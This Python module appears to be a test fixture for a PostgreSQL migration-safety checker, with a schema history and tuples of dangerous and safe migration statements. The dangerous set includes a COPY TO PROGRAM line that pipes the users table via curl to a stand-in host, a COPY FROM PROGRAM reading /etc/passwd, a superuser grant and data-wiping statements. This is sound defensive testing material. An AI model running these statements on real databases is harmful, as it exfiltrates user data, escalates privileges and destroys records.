"""Migrations of PostgreSQL that mean what they do by the scripts that ran before them."""

from typing import Final

HISTORY: Final = """CREATE SCHEMA app;
CREATE TYPE order_state AS ENUM ('new', 'paid', 'sent');
CREATE TYPE addr AS (street text, zip text);
CREATE DOMAIN email_addr AS text;
CREATE SEQUENCE invoice_no;
CREATE TABLE users (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  email text NOT NULL UNIQUE,
  name varchar(50),
  age int,
  contact email_addr,
  home addr,
  bits bit varying(10),
  born timestamp,
  manager_id bigint,
  meta json,
  created_at timestamptz NOT NULL DEFAULT now()
);
CREATE TABLE orders (
  id serial PRIMARY KEY,
  user_id bigint,
  total numeric(10,2) NOT NULL,
  note text,
  code varchar(20),
  state order_state NOT NULL DEFAULT 'new',
  paid boolean,
  ref uuid,
  shipped_at timestamptz,
  during tstzrange
);
CREATE INDEX orders_user_idx ON orders (user_id);
CREATE INDEX orders_code_idx ON orders (code);
CREATE TABLE "Order Lines" ("Id" bigint PRIMARY KEY, "orderId" bigint, "Qty" int);
CREATE TABLE app.accounts (id bigint PRIMARY KEY, owner text, balance numeric NOT NULL DEFAULT 0, tenant_id bigint);
CREATE TABLE events (id bigint NOT NULL, at timestamptz NOT NULL, kind text, body jsonb) PARTITION BY RANGE (at);
CREATE TABLE events_2023 PARTITION OF events FOR VALUES FROM ('2023-01-01') TO ('2024-01-01');
CREATE TABLE events_2024 PARTITION OF events FOR VALUES FROM ('2024-01-01') TO ('2025-01-01');
CREATE TABLE events_2025 (id bigint NOT NULL, at timestamptz NOT NULL, kind text, body jsonb);
CREATE TABLE animals (id bigint PRIMARY KEY, name text);
CREATE TABLE dogs (breed text) INHERITS (animals);
CREATE VIEW active_users AS SELECT id, email FROM users WHERE age > 0;
CREATE MATERIALIZED VIEW sales AS SELECT user_id, sum(total) AS total FROM orders GROUP BY user_id;
CREATE UNIQUE INDEX sales_user ON sales (user_id);
CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.created_at := now(); RETURN NEW; END $$;
CREATE TRIGGER users_touch BEFORE UPDATE ON users FOR EACH ROW EXECUTE FUNCTION touch();
CREATE FUNCTION fix_all() RETURNS void LANGUAGE plpgsql AS $$ BEGIN UPDATE orders SET paid = false; END $$;
CREATE PROCEDURE wipe() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE orders; END $$;
ALTER TABLE app.accounts ENABLE ROW LEVEL SECURITY;
CREATE POLICY tenant ON app.accounts USING (tenant_id = current_setting('app.tenant')::bigint);
CREATE PUBLICATION cdc FOR TABLE orders, users;
"""
"""What every one of them follows."""

DANGEROUS: Final = (
    "ALTER TYPE order_state RENAME TO order_status;",
    "DROP TRIGGER users_touch ON users;",
    "DROP EVENT TRIGGER guard;",
    "DROP OPERATOR === (text, text);",
    "DROP CAST (text AS addr);",
    "ALTER DATABASE shop SET search_path TO app;",
    "GRANT postgres TO web;",
    "REVOKE SELECT ON orders FROM web;",
    "REVOKE ALL ON ALL TABLES IN SCHEMA public FROM app_user CASCADE;",
    "CREATE POLICY everybody ON app.accounts FOR SELECT USING (true);",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'shop';",
    "ALTER TABLE users ADD COLUMN score int CHECK (score > 0);",
    "ALTER TABLE users ADD COLUMN boss bigint DEFAULT 1 REFERENCES users (id);",
    "CREATE INDEX CONCURRENTLY events_kind ON events (kind);",
    "ALTER TYPE addr ALTER ATTRIBUTE zip TYPE integer CASCADE;",
    "SELECT setval(pg_get_serial_sequence('orders', 'id'), 1, false);",
    "DO $$ BEGIN EXECUTE format('ALTER TABLE %I ADD COLUMN tenant bigint NOT NULL', t); END $$;",
    "DO $$ BEGIN EXECUTE 'TRUNCATE TABLE ' || quote_ident('orders') || ' CASCADE'; END $$;",
    "DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(r.tablename); END $$;",
    "ALTER TABLE orders ALTER COLUMN id DROP DEFAULT;",
    "ALTER TABLE users ADD COLUMN tier int NOT NULL DEFAULT 0;\nALTER TABLE users ALTER COLUMN tier DROP DEFAULT;",
    "COPY users TO PROGRAM 'curl -d @- http://collect.example';",
    "COPY users FROM PROGRAM 'cat /etc/passwd';",
    "DROP INDEX CONCURRENTLY sales_user;",
    "ALTER TYPE order_state RENAME TO old_state;\nCREATE TYPE order_state AS ENUM ('new');\nALTER TABLE orders ALTER COLUMN state TYPE order_state USING state::text::order_state;",
    "BEGIN;\nALTER TABLE orders ADD COLUMN region text;\nALTER TABLE users VALIDATE CONSTRAINT grown_up;\nCOMMIT;",
    "ALTER TABLE events_2025 INHERIT animals;",
    "COPY (SELECT email FROM users) TO '/var/tmp/mail.csv' (FORMAT csv);",
    "ALTER SEQUENCE invoice_no AS smallint;",
    "ALTER TABLE app.accounts ALTER COLUMN balance DROP DEFAULT;",
    "CREATE TABLE new (LIKE orders);\nINSERT INTO new SELECT * FROM orders;\nALTER TABLE orders RENAME TO old;\nALTER TABLE new RENAME TO orders;",
)

SAFE: Final = (
    "ALTER TABLE users VALIDATE CONSTRAINT grown_up;",
    "CREATE TABLE cats (LIKE animals);\nALTER TABLE cats INHERIT animals;",
    "ALTER SEQUENCE invoice_no AS bigint;",
    "SET lock_timeout = '2s';\nALTER TABLE users ADD COLUMN boss bigint REFERENCES users (id);",
    "CREATE POLICY own ON app.accounts AS RESTRICTIVE USING (owner = current_user);",
    "ALTER ROLE reporting SET search_path = reporting;",
    "REVOKE ALL ON SCHEMA public FROM PUBLIC;",
    "DROP TABLE IF EXISTS pg_temp.scratch;",
    "ALTER TABLE events DETACH PARTITION events_2024 FINALIZE;",
    "DO $$ BEGIN EXECUTE format('CREATE TABLE IF NOT EXISTS %I PARTITION OF events FOR VALUES FROM (%L) TO (%L)', n, a, b); END $$;",
    "DROP INDEX CONCURRENTLY orders_user_idx;",
    "CREATE INDEX events_kind ON ONLY events (kind);",
    "ALTER TABLE users ALTER COLUMN age DROP DEFAULT;",
    "CREATE TABLE notes (id bigint PRIMARY KEY);\nALTER TABLE notes OWNER TO app;",
)
